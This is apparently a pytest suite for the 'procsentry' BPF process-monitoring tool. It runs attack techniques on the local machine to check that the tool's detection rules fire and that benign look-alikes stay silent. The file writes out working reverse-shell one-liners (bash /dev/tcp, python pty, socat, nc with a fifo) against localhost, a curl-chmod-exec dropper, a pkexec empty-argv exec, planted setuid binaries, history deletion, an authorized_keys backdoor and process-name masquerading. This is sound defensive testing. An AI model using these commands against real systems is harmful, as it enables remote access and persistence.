"""The built-in detections, reproduced for real under `procsentry watch` (BPF sensor): each
attack is performed on this machine and must raise its alert about the right process (rule id
and exec_id), and a benign look-alike performed next to it must not.

Alerts are written after the process event that raised them, in the same write or an earlier
one than any later event's (Pipeline.detect runs over each flush's events before they are
written). So the negative checks run one more exec first and wait for its event (settled_alerts):
once it has been read, every alert a look-alike before it raised has been read too, and no
sleep is needed."""
from __future__ import annotations

import ctypes  # noqa: F401 - used in child programs' source below
import http.server
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

pytestmark = pytest.mark.bpf

PY = sys.executable


def rule(n: int) -> str:
    return f"5e27c0de-0000-4000-8000-{n:012d}"


REVERSE_SHELL, SERVER_SHELL, MEMFD, DELETED, WORLD_WRITABLE, HIDDEN = (rule(n) for n in (1, 2, 3, 4, 5, 6))
PKEXEC, SETUID, SERVICE_SHELL, CONTAINER_ESCAPE, DOWNLOAD_EXEC, MINER = (rule(n) for n in (7, 8, 9, 10, 11, 12))
SECURITY_OFF, LOGS, HISTORY, CRONTAB, SYSTEMD, AUTH_KEYS, KTHREAD, ARGV0, REWRITTEN = (
    rule(n) for n in (13, 14, 15, 16, 17, 18, 19, 20, 21))


# -- helpers -------------------------------------------------------------------------------
def exec_event(w, timeout: float = 60.0, **match) -> dict:
    """The first exec event whose fields equal `match` (argv compared as a list)."""
    def find(evs):
        for e in evs:
            if e["event"] == "exec" and all(e.get(k) == v for k, v in match.items()):
                return e
        return None
    return w.until(find, timeout, what=f"an exec event with {match}")


def alerts(w, rule_id: str, exec_id: str | None = None) -> list[dict]:
    return [e for e in w.snapshot() if e["event"] == "alert" and e["rule"]["id"] == rule_id
            and (exec_id is None or e["exec_id"] == exec_id)]


def settled_alerts(w, rule_id: str, exec_id: str | None = None) -> list[dict]:
    """alerts() once everything emitted before this call has been read (see the docstring)."""
    token = f"settle-{time.monotonic_ns()}"
    subprocess.run(["/bin/true", token], check=True)
    exec_event(w, argv=["/bin/true", token])
    return alerts(w, rule_id, exec_id)


def wait_alert(w, rule_id: str, exec_id: str, timeout: float = 60.0) -> dict:
    found = w.until(lambda evs: alerts(w, rule_id, exec_id), timeout,
                    what=f"alert {rule_id} for {exec_id}")
    assert len(found) == 1, found  # one process, one alert per rule
    return found[0]


class Listener:
    """A TCP listener on 127.0.0.1 that accepts one connection and holds it until released,
    then sends `exit` (ending the remote shell) and closes."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.port = self.sock.getsockname()[1]
        self.release = threading.Event()
        self.received = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(90)
        try:
            conn, _ = self.sock.accept()
        except OSError:
            return
        with conn:
            self.release.wait(90)
            try:
                conn.sendall(b"exit\n")
                conn.settimeout(2)
                self.received = conn.recv(4096)
            except OSError:
                pass
        self.sock.close()

    def close(self) -> None:
        self.release.set()
        self.thread.join(10)


@pytest.fixture
def workdir():
    # Under /var/tmp, world-readable: some scenarios run as other users (www-data, nobody).
    d = Path(tempfile.mkdtemp(prefix="procsentry-detect-", dir="/var/tmp"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def run(argv, **kw) -> subprocess.Popen:
    return subprocess.Popen(argv, stdin=kw.pop("stdin", subprocess.DEVNULL), stdout=kw.pop("stdout", subprocess.DEVNULL),
                            stderr=kw.pop("stderr", subprocess.DEVNULL), **kw)


# -- 1. reverse shells -----------------------------------------------------------------------
def test_reverse_shell_bash_dev_tcp(detecting):
    w = detecting
    lst = Listener()
    try:
        # bash -c execs its last command in place: the pid of Popen becomes `bash --norc -i`
        p = run(["bash", "-c", f"exec bash --norc -i >& /dev/tcp/127.0.0.1/{lst.port} 0>&1"])
        shell = exec_event(w, pid=p.pid, argv=["bash", "--norc", "-i"])
        a = wait_alert(w, REVERSE_SHELL, shell["exec_id"])
        assert a["pid"] == p.pid and a["exe"] == shell["exe"]
        assert a["matched"]["protocol"] == "tcp"
        assert a["matched"]["remote"][0] == f"127.0.0.1:{lst.port}"
        assert sorted(a["matched"]["fds"])[0].startswith("0:socket:[")
        assert a["rule"]["level"] == "critical" and "attack.t1059.004" in a["rule"]["tags"]
        assert a["rule"]["author"] == "procsentry" and a["rule"]["source"] == "builtin"
    finally:
        lst.close()
    p.wait(60)  # exit, or SIGPIPE when the listener closes first
    # look-alike: an interactive shell fed by a pipe, not a socket
    b = run(["bash", "--norc", "-i"], stdin=subprocess.PIPE)
    b.communicate(b"exit\n", timeout=60)
    benign = exec_event(w, pid=b.pid, argv=["bash", "--norc", "-i"])
    assert settled_alerts(w, REVERSE_SHELL, benign["exec_id"]) == []


PTY_SHELL = ("import os, pty, socket, sys\n"
             "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
             "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
             "pty.spawn('/bin/sh')\n")


def test_reverse_shell_python_pty(detecting):
    w = detecting
    lst = Listener()
    try:
        p = run([PY, "-c", PTY_SHELL, str(lst.port)])
        shell = exec_event(w, ppid=p.pid, argv=["/bin/sh"])
        a = wait_alert(w, REVERSE_SHELL, shell["exec_id"])
        assert a["matched"]["parent_pid"] == p.pid
        assert a["matched"]["fds"][0].startswith("0:/dev/pts/")
        [sock] = a["matched"]["parent_sockets"]
        assert sock["fds"] == [0, 1, 2] and sock["protocol"] == "tcp"
        assert sock["remote"] == f"127.0.0.1:{lst.port}" and sock["state"] == "ESTABLISHED"
    finally:
        lst.close()
    p.wait(60)
    # look-alike: the same pty.spawn of a shell, with no socket anywhere
    b = run([PY, "-c", "import pty; pty.spawn(['/bin/sh', '-c', 'exit 0'])"])
    benign = exec_event(w, ppid=b.pid, argv=["/bin/sh", "-c", "exit 0"])
    b.wait(60)
    assert settled_alerts(w, REVERSE_SHELL, benign["exec_id"]) == []


def test_reverse_shell_socat_exec(detecting):
    """socat's exec: gives the shell a socketpair (or, with pty, a terminal) and relays it to the
    TCP connection: the socket is on another fd of socat, the shell's parent. (socat is installed
    by scripts/setup.sh: a missing one fails here, it is not a reason to skip.)"""
    assert shutil.which("socat"), "socat is not installed (scripts/setup.sh installs it)"
    w = detecting
    socat = os.path.realpath(shutil.which("socat"))
    for address, argv in (("exec:/bin/sh", ["/bin/sh"]),
                          ("exec:bash --norc -i,pty,stderr,setsid,sigint,sane", ["bash", "--norc", "-i"])):
        lst = Listener()
        try:
            p = run(["socat", f"tcp:127.0.0.1:{lst.port}", address])
            shell = exec_event(w, ppid=p.pid, argv=argv)
            a = wait_alert(w, REVERSE_SHELL, shell["exec_id"])
            assert (a["pid"], a["matched"]["parent_pid"], a["matched"]["parent_exe"]) == (shell["pid"], p.pid, socat)
            [sock] = a["matched"]["parent_sockets"]
            assert sock["protocol"] == "tcp" and sock["remote"] in (f"127.0.0.1:{lst.port}", None)
        finally:
            lst.close()
        p.wait(60)
    # look-alike: socat running one shell command (system: is sh -c) for the connection
    lst = Listener()
    try:
        b = run(["socat", f"tcp:127.0.0.1:{lst.port}", f"system:echo {lst.port}"])
        benign = exec_event(w, argv=["sh", "-c", f"echo {lst.port}"])  # under socat's fork
    finally:
        lst.close()
    b.wait(60)
    assert settled_alerts(w, REVERSE_SHELL, benign["exec_id"]) == []


def test_reverse_shell_nc_fifo(detecting, workdir):
    w = detecting
    fifo = workdir / "f"
    os.mkfifo(fifo)
    lst = Listener()
    try:
        p = run(["bash", "-c", f"cat {fifo} | /bin/sh -i 2>&1 | nc 127.0.0.1 {lst.port} > {fifo}"])
        shell = exec_event(w, ppid=p.pid, argv=["/bin/sh", "-i"])
        nc = exec_event(w, ppid=p.pid, argv=["nc", "127.0.0.1", str(lst.port)])
        a = wait_alert(w, REVERSE_SHELL, shell["exec_id"])
        assert a["pid"] == shell["pid"]
        assert a["matched"]["network_tool_pid"] == nc["pid"]
        assert a["matched"]["network_tool_argv"] == ["nc", "127.0.0.1", str(lst.port)]
        assert a["matched"]["pipe"].startswith("pipe:[")
    finally:
        lst.close()
    p.wait(60)
    # look-alike: a shell running one command into nc (not reading commands from the network)
    lst2 = Listener()
    try:
        b = run(["bash", "-c", f"/bin/sh -c 'echo hello' | nc -N 127.0.0.1 {lst2.port}"])
        benign_sh = exec_event(w, ppid=b.pid, argv=["/bin/sh", "-c", "echo hello"])
        exec_event(w, ppid=b.pid, argv=["nc", "-N", "127.0.0.1", str(lst2.port)])
    finally:
        lst2.close()
    b.wait(60)
    assert settled_alerts(w, REVERSE_SHELL, benign_sh["exec_id"]) == []


# -- 2. server spawning a shell ----------------------------------------------------------------
def test_web_server_spawns_shell(detecting, workdir):
    w = detecting
    # A real program named like a web server: a copy of timeout(1), which forks and execs its
    # command, so `nginx` is the shell's parent as a web server's worker would be.
    nginx = workdir / "nginx"
    shutil.copy("/usr/bin/timeout", nginx)
    p = run([str(nginx), "10", "/bin/sh", "-c", "id -u >/dev/null; exit 0"])
    server = exec_event(w, pid=p.pid, argv=[str(nginx), "10", "/bin/sh", "-c", "id -u >/dev/null; exit 0"])
    shell = exec_event(w, ppid=p.pid, argv=["/bin/sh", "-c", "id -u >/dev/null; exit 0"])
    a = wait_alert(w, SERVER_SHELL, shell["exec_id"])
    assert a["ancestry"][0]["exec_id"] == server["exec_id"]
    assert a["matched"]["ancestry.exe"][0] == str(nginx)
    assert a["rule"]["level"] == "high" and "attack.t1505.003" in a["rule"]["tags"]
    p.wait(60)
    # look-alike: the same server running a non-shell helper
    b = run([str(nginx), "10", "/bin/true", "lookalike"])
    benign = exec_event(w, ppid=b.pid, argv=["/bin/true", "lookalike"])
    b.wait(60)
    assert settled_alerts(w, SERVER_SHELL, benign["exec_id"]) == []


# -- 3. memfd / deleted --------------------------------------------------------------------------
MEMFD_EXEC = ("import os, sys\n"
              "fd = os.memfd_create('payload', 0)\n"
              "os.write(fd, open('/bin/sleep', 'rb').read())\n"
              "os.execv(f'/proc/self/fd/{fd}', ['sleep', '0.3'])\n")
FD_EXEC = ("import os\n"
           "fd = os.open('/bin/sleep', os.O_RDONLY)\n"
           "os.execv(f'/proc/self/fd/{fd}', ['sleep', '0.31'])\n")


def test_memfd_exec(detecting):
    w = detecting
    p = run([PY, "-c", MEMFD_EXEC])
    ev = exec_event(w, pid=p.pid, argv=["sleep", "0.3"])
    assert ev["exe_fileless"] is True
    a = wait_alert(w, MEMFD, ev["exec_id"])
    assert a["matched"] == {"exe_fileless": True} and a["exe"].startswith("/memfd:payload")
    assert settled_alerts(w, DELETED, ev["exec_id"]) == []  # a memfd is fileless, not a deleted file
    p.wait(60)
    # look-alike: the same exec through /proc/self/fd of a file on disk
    b = run([PY, "-c", FD_EXEC])
    benign = exec_event(w, pid=b.pid, argv=["sleep", "0.31"])
    b.wait(60)
    assert benign["exe"] == os.path.realpath("/bin/sleep")
    assert settled_alerts(w, MEMFD, benign["exec_id"]) == [] and alerts(w, DELETED, benign["exec_id"]) == []


# -- 4. world-writable / hidden locations ----------------------------------------------------------
def test_exec_from_tmp_and_hidden_dir(detecting, workdir):
    w = detecting
    hidden = workdir / ".cache-x"
    hidden.mkdir()
    for d in (workdir, hidden):
        shutil.copy("/bin/true", d / "payload")
    p = run([str(workdir / "payload"), "ww"])
    ev = exec_event(w, pid=p.pid, argv=[str(workdir / "payload"), "ww"])
    a = wait_alert(w, WORLD_WRITABLE, ev["exec_id"])
    assert a["matched"] == {"Image": str(workdir / "payload")}
    q = run([str(hidden / "payload"), "hid"])
    ev2 = exec_event(w, pid=q.pid, argv=[str(hidden / "payload"), "hid"])
    wait_alert(w, HIDDEN, ev2["exec_id"])
    p.wait(60), q.wait(60)
    # named like an excluded tool cache (.git, .venv), but in a world-writable directory
    (workdir / ".git").mkdir()
    shutil.copy("/bin/true", workdir / ".git" / "payload")
    r = run([str(workdir / ".git" / "payload"), "git"])
    ev3 = exec_event(w, pid=r.pid, argv=[str(workdir / ".git" / "payload"), "git"])
    assert wait_alert(w, HIDDEN, ev3["exec_id"])["matched"] == {"Image": str(workdir / ".git" / "payload")}
    r.wait(60)
    # a #! script there: Image is /usr/bin/dash, the script is what is in the directory
    script = hidden / "stage.sh"
    script.write_text("#!/bin/sh\nexit 0\n")
    script.chmod(0o755)
    s = run(["bash", "-c", f"cd {hidden} && ./stage.sh go"])
    ev4 = exec_event(w, filename="./stage.sh", argv=["/bin/sh", "./stage.sh", "go"])
    s.wait(60)
    assert ev4["exe"] == os.path.realpath("/bin/sh")
    for rule_id in (WORLD_WRITABLE, HIDDEN):
        assert wait_alert(w, rule_id, ev4["exec_id"])["matched"] == {"script": str(script)}
    # look-alike: a developer's build running its fresh binary from /var/tmp/... via make
    (workdir / "Makefile").write_text("run:\n\t./payload built\n")
    m = run(["make", "-s", "-C", str(workdir), "run"])
    built = exec_event(w, argv=["./payload", "built"])
    m.wait(60)
    assert built["exe"] == str(workdir / "payload")
    assert settled_alerts(w, WORLD_WRITABLE, built["exec_id"]) == []


def test_exec_from_tmp_deeper_than_the_kernel_walk(detecting, workdir):
    """70 directories deep, the kernel's walk keeps the leaf end of the path (`.../d/payload`):
    no `Image|startswith: '/var/tmp/'` could match it. procfs has the whole path."""
    w = detecting
    deep = workdir
    for _ in range(70):
        deep = deep / "d"
    deep.mkdir(parents=True)
    shutil.copy("/bin/sleep", deep / "payload")
    p = run(["./payload", "3"], cwd=deep)
    ev = exec_event(w, pid=p.pid, argv=["./payload", "3"])
    assert "exe_truncated" in ev["capture"], ev
    assert ev["exe"] == str(deep / "payload"), {k: ev.get(k) for k in ("enrichment", "missing", "image_id", "capture")}
    a = wait_alert(w, WORLD_WRITABLE, ev["exec_id"])
    assert a["matched"] == {"Image": str(deep / "payload")}
    p.wait(60)


# -- 5. pkexec with empty argv, unexpected setuid ------------------------------------------------
EMPTY_ARGV = ("import ctypes, sys\n"
              "libc = ctypes.CDLL(None, use_errno=True)\n"
              "argv = (ctypes.c_char_p * 1)(None)\n"
              "envp = (ctypes.c_char_p * 2)(b'PWNKIT=1', None)\n"
              "libc.execve(sys.argv[1].encode(), argv, envp)\n"
              "sys.exit(ctypes.get_errno())\n")


def test_pkexec_empty_argv(detecting, workdir):
    w = detecting
    # A program named pkexec (a copy of true: no setuid pkexec is needed to show the exec).
    pk = workdir / "pkexec"
    shutil.copy("/bin/true", pk)
    p = run([PY, "-c", EMPTY_ARGV, str(pk)])
    ev = exec_event(w, pid=p.pid, exe=str(pk))
    # Linux >= 5.18 gives an empty argv an empty argv[0] (argc 1); older kernels argc 0.
    assert ev["argv"] in ([""], [])
    a = wait_alert(w, PKEXEC, ev["exec_id"])
    assert a["rule"]["level"] == "critical" and "cve.2021-4034" in a["rule"]["tags"]
    p.wait(60)
    b = run([str(pk), "--version"])
    benign = exec_event(w, pid=b.pid, argv=[str(pk), "--version"])
    b.wait(60)
    assert settled_alerts(w, PKEXEC, benign["exec_id"]) == []


def test_unexpected_setuid_root(detecting, workdir):
    w = detecting
    planted = workdir / "helper"
    shutil.copy("/usr/bin/id", planted)
    planted.chmod(0o4755)
    drop = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
    p = run([*drop, str(planted), "-u"], stdout=subprocess.PIPE)
    out, _ = p.communicate(timeout=60)
    assert out.strip() == b"0"  # the planted setuid binary really ran with euid 0
    ev = exec_event(w, pid=p.pid, argv=[str(planted), "-u"])
    assert (ev["uid"], ev["euid"]) == (65534, 0)
    a = wait_alert(w, SETUID, ev["exec_id"])
    assert a["matched"] == {"euid": 0, "setuid": True}
    # planted under the name of a distribution's setuid program, but not where packages put it
    disguised = workdir / "ping"
    shutil.copy("/usr/bin/id", disguised)
    disguised.chmod(0o4755)
    p = run([*drop, str(disguised), "-u"])
    p.wait(60)
    ev = exec_event(w, pid=p.pid, argv=[str(disguised), "-u"])
    assert (ev["uid"], ev["euid"], ev["exe"]) == (65534, 0, str(disguised))
    assert wait_alert(w, SETUID, ev["exec_id"])["matched"] == {"euid": 0, "setuid": True}
    # look-alike: a distribution setuid-root program run by the same user
    b = run([*drop, "/usr/bin/passwd", "-S", "nobody"])
    b.wait(60)
    benign = exec_event(w, pid=b.pid, argv=["/usr/bin/passwd", "-S", "nobody"])
    assert benign["euid"] == 0
    assert settled_alerts(w, SETUID, benign["exec_id"]) == []


# -- 6. service account shell -----------------------------------------------------------------
def test_service_account_interactive_shell(detecting):
    w = detecting
    drop = ["setpriv", "--reuid", "33", "--regid", "33", "--clear-groups"]  # www-data
    p = run([*drop, "/bin/sh", "-i"], stdin=subprocess.PIPE)
    p.communicate(b"exit\n", timeout=60)
    ev = exec_event(w, pid=p.pid, argv=["/bin/sh", "-i"])
    a = wait_alert(w, SERVICE_SHELL, ev["exec_id"])
    assert a["matched"]["uid"] == 33 and a["matched"]["login_shell"].endswith("nologin")
    b = run([*drop, "/bin/sh", "-c", "exit 0"])
    b.wait(60)
    benign = exec_event(w, pid=b.pid, argv=["/bin/sh", "-c", "exit 0"])
    assert settled_alerts(w, SERVICE_SHELL, benign["exec_id"]) == []


# -- 7. container escape tooling ----------------------------------------------------------------
CGROOT = Path("/sys/fs/cgroup/unified")


def test_chroot_from_a_container(detecting):
    w = detecting
    if not (CGROOT / "cgroup.procs").exists():
        pytest.skip("no cgroup v2 hierarchy at /sys/fs/cgroup/unified")
    cid = "c0" * 32
    parent = CGROOT / f"procsentry-detect-{os.getpid()}"
    scope = parent / f"docker-{cid}.scope"
    scope.mkdir(parents=True)
    try:
        # A shell moves itself into a cgroup named like a docker container, then chroots, as
        # an escape to a host filesystem mounted in the container does (`chroot /host`).
        # (nsenter -t 1 is refused by this sandbox's pid 1; chroot is the same rule.)
        p = run(["/bin/sh", "-c", f'echo $$ > "{scope}/cgroup.procs" && exec chroot / /bin/sleep 0.5'])
        ev = exec_event(w, pid=p.pid, argv=["chroot", "/", "/bin/sleep", "0.5"])
        assert ev["container_id"] == cid
        a = wait_alert(w, CONTAINER_ESCAPE, ev["exec_id"])
        assert a["matched"] == {"Image": ev["exe"]}
        p.wait(60)
    finally:
        for d in (scope, parent):
            try:
                d.rmdir()
            except OSError:
                pass
    b = run(["chroot", "/", "/bin/sleep", "0.51"])
    benign = exec_event(w, pid=b.pid, argv=["chroot", "/", "/bin/sleep", "0.51"])
    b.wait(60)
    assert benign["container_id"] is None
    assert settled_alerts(w, CONTAINER_ESCAPE, benign["exec_id"]) == []


# -- 8. download, chmod +x, exec -----------------------------------------------------------------
class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        pass


def test_download_chmod_exec(detecting, workdir):
    w = detecting
    served = workdir / "www"
    served.mkdir()
    (served / "stage2.sh").write_text("#!/bin/sh\nexit 0\n")
    handler = lambda *a, **k: _Quiet(*a, directory=str(served), **k)  # noqa: E731
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    url = f"http://127.0.0.1:{httpd.server_address[1]}/stage2.sh"
    try:
        p = run(["bash", "-c", f"cd {workdir} && curl -sf -o dl1 {url} && chmod +x dl1 && ./dl1 go"])
        assert p.wait(20) == 0
        ev = exec_event(w, filename="./dl1", argv=["/bin/sh", "./dl1", "go"])
        a = wait_alert(w, DOWNLOAD_EXEC, ev["exec_id"])
        assert a["matched"]["file"] == str(workdir / "dl1")
        assert a["matched"]["downloaded_by"] == f"curl -sf -o dl1 {url}"
        assert a["matched"]["chmod"] == "chmod +x dl1"
        # a path that looks like a chmod mode to a sloppy pattern (a/x: "a", "/", "x") is
        # still the file made executable
        p = run(["bash", "-c", f"cd {workdir} && mkdir a && curl -sf -o a/x {url} && chmod +x a/x && ./a/x go"])
        assert p.wait(20) == 0
        ev = exec_event(w, filename="./a/x", argv=["/bin/sh", "./a/x", "go"])
        assert wait_alert(w, DOWNLOAD_EXEC, ev["exec_id"])["matched"]["file"] == str(workdir / "a" / "x")
        # flags clustered before the value-taking option, as droppers write them (-fsSLo FILE)
        p = run(["bash", "-c", f"cd {workdir} && curl -fsSLo dl2 {url} && chmod 755 dl2 && ./dl2 go"])
        assert p.wait(20) == 0
        ev = exec_event(w, filename="./dl2", argv=["/bin/sh", "./dl2", "go"])
        a = wait_alert(w, DOWNLOAD_EXEC, ev["exec_id"])
        assert (a["matched"]["file"], a["matched"]["downloaded_by"], a["matched"]["chmod"]) == (
            str(workdir / "dl2"), f"curl -fsSLo dl2 {url}", "chmod 755 dl2")
        # look-alike: a file made executable and run, but copied locally, not downloaded
        b = run(["bash", "-c", f"cd {workdir} && cp www/stage2.sh local1 && chmod +x local1 && ./local1 go"])
        assert b.wait(20) == 0
        benign = exec_event(w, filename="./local1", argv=["/bin/sh", "./local1", "go"])
        assert settled_alerts(w, DOWNLOAD_EXEC, benign["exec_id"]) == []
    finally:
        httpd.shutdown()


# -- 9-12. miners, defence evasion, persistence, masquerading --------------------------------------
def _alerted_once(w, rule_id, argv, **kw):
    p = run(argv, **kw)
    p.wait(60)
    ev = exec_event(w, pid=p.pid, argv=list(argv))
    return wait_alert(w, rule_id, ev["exec_id"])


def _not_alerted(w, rule_id, argv, **kw):
    p = run(argv, **kw)
    p.wait(60)
    ev = exec_event(w, pid=p.pid, argv=list(argv))
    assert settled_alerts(w, rule_id, ev["exec_id"]) == [], argv
    return ev


def test_miner_stratum_url(detecting):
    w = detecting
    a = _alerted_once(w, MINER, ["/bin/true", "-o", "stratum+tcp://pool.invalid:3333", "-u", "wallet"])
    assert a["matched"]["CommandLine"] == "/bin/true -o stratum+tcp://pool.invalid:3333 -u wallet"
    _not_alerted(w, MINER, ["grep", "-c", "stratum+tcp://", "/dev/null"])


def test_shell_history_cleared(detecting, workdir):
    w = detecting
    (workdir / ".bash_history").write_text("secret\n")
    (workdir / "notes.txt").write_text("x\n")
    _alerted_once(w, HISTORY, ["rm", "-f", str(workdir / ".bash_history")])
    assert not (workdir / ".bash_history").exists()
    _not_alerted(w, HISTORY, ["rm", "-f", str(workdir / "notes.txt")])


def test_authorized_keys_written_by_one_liner(detecting, workdir):
    w = detecting
    (workdir / ".ssh").mkdir()
    keys = workdir / ".ssh" / "authorized_keys"
    a = _alerted_once(w, AUTH_KEYS, ["sh", "-c", f"echo 'ssh-ed25519 AAAAC3Nz test' >> {keys}"])
    assert keys.read_text() == "ssh-ed25519 AAAAC3Nz test\n"
    assert a["rule"]["level"] == "high" and "attack.t1098.004" in a["rule"]["tags"]
    _not_alerted(w, AUTH_KEYS, ["sh", "-c", f"grep -c ssh-ed25519 {keys} 2>/dev/null"])


def test_kernel_thread_name_and_argv0_masquerade(detecting, workdir):
    w = detecting
    p = run(["bash", "-c", "exec -a '[kworker/0:7-events]' /bin/sleep 0.2"])
    ev = exec_event(w, pid=p.pid, argv=["[kworker/0:7-events]", "0.2"])
    a = wait_alert(w, KTHREAD, ev["exec_id"])
    assert a["matched"]["argv0"] == "[kworker/0:7-events]"
    q = run(["bash", "-c", "exec -a sshd /bin/sleep 0.21"])
    ev2 = exec_event(w, pid=q.pid, argv=["sshd", "0.21"])
    b = wait_alert(w, ARGV0, ev2["exec_id"])
    assert b["matched"] == {"argv0": "sshd", "filename": "/bin/sleep", "Image": ev2["exe"]}
    p.wait(60), q.wait(60)
    # look-alikes: a symlinked name (sh -> dash) and a login shell's "-sh"
    for argv in (["sh", "-c", "exit 0"], ["-sh", "-c", "exit 0"]):
        r = run(["bash", "-c", f"exec -a {argv[0]} /bin/sh -c 'exit 0'"])
        r.wait(60)
        ev3 = exec_event(w, pid=r.pid, argv=argv)
        assert settled_alerts(w, ARGV0, ev3["exec_id"]) == [] and alerts(w, KTHREAD, ev3["exec_id"]) == []
    # and a #! script, whose argv[0] the kernel sets to the #! interpreter (/bin/sh -> dash),
    # as dpkg's maintainer scripts run
    script = workdir / "postinst"
    script.write_text("#!/bin/sh\nexit 0\n")
    script.chmod(0o755)
    r = run([str(script), "configure"])
    r.wait(60)
    ev4 = exec_event(w, pid=r.pid, argv=["/bin/sh", str(script), "configure"])
    assert ev4["exe"] == os.path.realpath("/bin/sh")
    assert settled_alerts(w, ARGV0, ev4["exec_id"]) == []
    # the same script in a chroot (debootstrap runs maintainer scripts so): the executable's
    # path is <root>/usr/bin/dash as the host sees it, argv[0] still /bin/sh
    root = workdir / "root"
    root.mkdir()
    subprocess.run(["mount", "--bind", "/", str(root)], check=True)
    try:
        r = run(["chroot", str(root), str(script), "configure"])
        r.wait(60)
        ev5 = exec_event(w, pid=r.pid, argv=["/bin/sh", str(script), "configure"])
        assert ev5["exe"] == str(root) + os.path.realpath("/bin/sh")
        assert settled_alerts(w, ARGV0, ev5["exec_id"]) == []
    finally:
        subprocess.run(["umount", "-l", str(root)], check=True)


REWRITER = r"""
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc > 2 && strcmp(argv[1], "rewrite") == 0)
        memset(argv[2], 'x', strlen(argv[2]));   /* hide the argument, as malware does */
    usleep(3000000);
    return 0;
}
"""


def test_argv_rewritten_after_exec(detecting, workdir):
    w = detecting
    src = workdir / "rw.c"
    src.write_text(REWRITER)
    binary = workdir / "rw"
    subprocess.run(["gcc", "-O1", "-o", str(binary), str(src)], check=True)
    # procfs is read a few ms after exec; on a loaded machine the program may not have reached
    # main() by then, and the rewrite is not seen: try again (a bounded number of times).
    for attempt in range(5):
        p = run([str(binary), "rewrite", f"secret-arg{attempt}"])
        ev = exec_event(w, pid=p.pid, argv=[str(binary), "rewrite", f"secret-arg{attempt}"])
        if ev["differs"] is not None:
            break
        p.kill()
        p.wait(60)
    assert ev["differs"]["argv"] == [str(binary), "rewrite", "x" * len(f"secret-arg{attempt}")]
    # The rule decides on the first event after its 1 s re-exec window: make one.
    time.sleep(1.2)
    subprocess.run(["/bin/true"], check=True)
    a = wait_alert(w, REWRITTEN, ev["exec_id"])
    assert a["matched"] == {"argv_at_exec": [str(binary), "rewrite", f"secret-arg{attempt}"],
                            "argv_now": [str(binary), "rewrite", "x" * len(f"secret-arg{attempt}")]}
    p.kill()
    p.wait(60)
    benign = _not_alerted(w, REWRITTEN, [str(binary), "keep", "visible-arg"])
    assert benign["differs"] is None
